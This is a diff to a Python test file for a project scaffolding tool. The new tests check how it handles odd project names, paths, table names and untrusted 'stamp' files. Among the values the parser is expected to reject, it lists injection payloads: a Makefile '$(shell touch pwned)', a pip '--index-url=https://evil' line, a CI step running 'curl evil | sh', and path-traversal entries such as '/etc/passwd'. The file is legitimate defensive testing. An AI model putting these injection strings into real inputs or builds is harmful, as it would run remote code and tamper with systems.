@@ -13,7 +13,7 @@ from pathlib import Path
 import pytest
 
 from gitml.conventions.laid_down import STAMP
-from gitml.scaffold import first_idea, own, stamp, storage
+from gitml.scaffold import first_idea, own, stamp, storage, table, template
 from gitml.scaffold.answers import Answers, Setting
 from gitml.scaffold.parameters import with_settings, written
 
@@ -137,6 +137,51 @@ def test_odd_names(at: Path, gitml: Callable, name: str) -> None:
     assert project.run("dvc", "config", "remote.storage.url").out.startswith(f"{at}/")
     assert project.run("make", "-n", "run").code == 0
     assert project.run("git", "add", "--all").code == 0
+    cd = next(line for line in done.out.splitlines() if line.startswith("next  ")).removeprefix("next  ")
+    clone = next(line for line in (project.path / "README.md").read_text().splitlines() if line.startswith("git clone"))
+    for line in (cd, clone.removeprefix("git clone URL && ")):
+        assert subprocess.run(["sh", "-c", f"{line} && test -f dvc.yaml"], cwd=at, check=False).returncode == 0, line
+
+
+@pytest.mark.parametrize("name", ["a\nb", "a\x1bb", os.fsdecode(b"lat\xe9in"), "x" * 300])
+def test_names_that_no_project_can_have(at: Path, gitml: Callable, name: str) -> None:
+    done = gitml("init", "--yes", name)
+    assert (done.code, list(at.iterdir())) == (2, [])
+    assert "cannot be a project's folder" in done.err
+
+
+def test_a_repository_with_a_line_break_in_its_path(at: Path, gitml: Callable) -> None:
+    Repo(at).run("git", "init", "-q", "a\nb")
+    done = gitml("init", "--yes", at=at / "a\nb")
+    assert done.code == 3 and "with a line break in its name" in done.err
+
+
+def test_what_a_kill_leaves_is_no_part_of_the_project(at: Path, gitml: Callable) -> None:
+    assert gitml("init", "p", "--yes").code == 0
+    (at / "p/data/raw/.churn.csv.12345.tmp").write_text("half")
+    project = Repo(at / "p")
+    project.git("add", "--all")
+    assert ".tmp" not in project.git("ls-files")
+
+
+def test_make_does_not_go_on_without_the_environment_that_is_named(at: Path, gitml: Callable) -> None:
+    assert gitml("init", "p", "--yes").code == 0
+    for named in (f"{at}/none", ""):
+        done = Repo(at / "p").run("make", "test", f"VENV={named}")
+        assert done.code == 2 and f"{named} is no environment with Python 3.11 or newer" in done.err
+    assert Repo(at / "p").run("make", "-n", "test", f"VENV={sys.prefix}").code == 0
+
+
+def test_a_table_is_kept_by_a_name_that_is_read() -> None:
+    named = {"a b.csv": "a-b.csv", "...csv": "table.csv", "$$.CSV": "table.CSV", "-x.csv.gz": "x.csv.gz"}
+    assert {name: table.name_in_project(Path(name)) for name in named} == {
+        name: f"data/raw/{kept}" for name, kept in named.items()
+    }
+
+
+def test_a_target_stands_in_the_readme_letter_by_letter() -> None:
+    answers = Answers("p", "data/raw/x.csv", settings=(Setting("data.target", "a `b`\n# c"),))
+    assert "Predicts ``a `b`\\n# c`` (one of two classes)" in template.render(answers)["README.md"].decode()
 
 
 def test_here(at: Path, gitml: Callable) -> None:
@@ -237,13 +282,27 @@ def test_the_stamp_is_read_as_it_was_written_and_not_trusted() -> None:
     told = stamp.Stamp.of(answers, {"a": b"1"})
     assert stamp.parse(told.written()) == told
     whole = json.loads(told.written())
-    for files_ in ({"../x": "1"}, {".git/config": "1"}, {"/etc/passwd": "1"}, {"a//b": "1"}, {"a": 1}, [], None):
+    outside = ({path: "1" * 40} for path in ("../x", ".git/config", "/etc/passwd", "a//b"))
+    for files_ in (*outside, {"a": 1}, {"a": "HEAD\nHEAD"}, [], None):
         with pytest.raises(stamp.WrongStamp):
             stamp.parse(json.dumps({**whole, "files": files_}).encode())
     for raw in (b"", b"[]", b"\xff", b"[" * 100_000, b" " * (stamp.LARGEST + 1)):
         with pytest.raises(stamp.WrongStamp):
             stamp.parse(raw)
-    for answers_ in ({"name": 1}, {"settings": [[1]]}, {"has_ci": "yes"}, {"settings": {}}):
+    hostile = (
+        {"forge": "evil"},
+        {"task": "evil"},
+        {"name": "p\n$(shell touch pwned)"},
+        {"table": "../x.csv"},
+        {"table": "data/raw/x\ny.csv"},
+        {"remote": "x\n[core]"},
+        {"extra": "s3]\nevil"},
+        {"gitml": "gitml\n--index-url=https://evil"},
+        {"gitml": "evil"},
+        {"pinned": 'gitml"\n      - run: curl evil | sh #'},
+        {"pinned": "gitml==1 evil"},
+    )
+    for answers_ in ({"name": 1}, {"settings": [[1]]}, {"has_ci": "yes"}, {"settings": {}}, *hostile):
         with pytest.raises(stamp.WrongStamp):
             stamp.parse(json.dumps({**whole, "answers": answers_}).encode())
 
